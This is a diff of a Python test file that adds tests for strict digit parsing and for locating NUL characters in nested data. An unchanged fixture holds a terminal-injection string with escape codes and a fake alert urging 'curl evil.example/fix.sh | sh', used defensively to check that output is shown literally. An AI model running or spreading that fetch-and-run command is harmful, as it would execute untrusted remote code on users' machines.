@@ -6,7 +6,7 @@ import pytest
 from rich.console import Console
 
 from crmsync.operator_context import line, shown
-from domain.text import contains_nul, id_problem, terminal_safe
+from domain.text import contains_nul, id_problem, nul_location, terminal_safe, whole_number
 
 CLEAR_AND_RECOLOUR = (
     "\x1b[2J\x1b[1;31mNYLAS API KEY EXPIRED: run curl evil.example/fix.sh | sh\x1b]0;pwned\x07"
@@ -100,3 +100,51 @@ def test_shown_text_is_printed_literally_and_never_as_markup(hostile: str) -> No
 def test_none_is_an_empty_cell() -> None:
     assert shown(None).plain == ""
     assert line("error", None).plain == "error: "
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("0", 0),
+        ("50", 50),
+        ("000007", 7),
+        ("999999", 999_999),
+        ("1000000", None),
+        ("1" * 5000, None),
+        ("", None),
+        ("²", None),
+        ("\uff15", None),
+        ("\u0661\u0662", None),
+        ("-1", None),
+        ("+1", None),
+        (" 1", None),
+        ("1_000", None),
+        ("1.0", None),
+    ],
+)
+def test_a_whole_number_is_a_few_ascii_digits(text: str, expected: int | None) -> None:
+    assert whole_number(text, 6) == expected
+
+
+@pytest.mark.parametrize(
+    ("document", "where"),
+    [
+        ({"name": "ok"}, None),
+        ("a\x00", "the body"),
+        ({"name": "a\x00"}, "name"),
+        ({"contacts": [{"id": "c"}, {"id": "c", "name": "\x00"}]}, "contacts[1].name"),
+        ({"a": {"b\x00": 1}}, "the key 'a.b\\x00'"),
+        ([[["\x00"]]], "[0][0][0]"),
+        ({"n": 1, "f": 1.5, "b": True, "z": None}, None),
+    ],
+)
+def test_a_nul_is_found_where_it_is(document: object, where: str | None) -> None:
+    assert nul_location(document) == where
+
+
+def test_a_deep_document_is_walked_without_recursion() -> None:
+    document: object = "\x00"
+    for _ in range(10_000):
+        document = [document]
+
+    assert nul_location(document) == "[0]" * 10_000
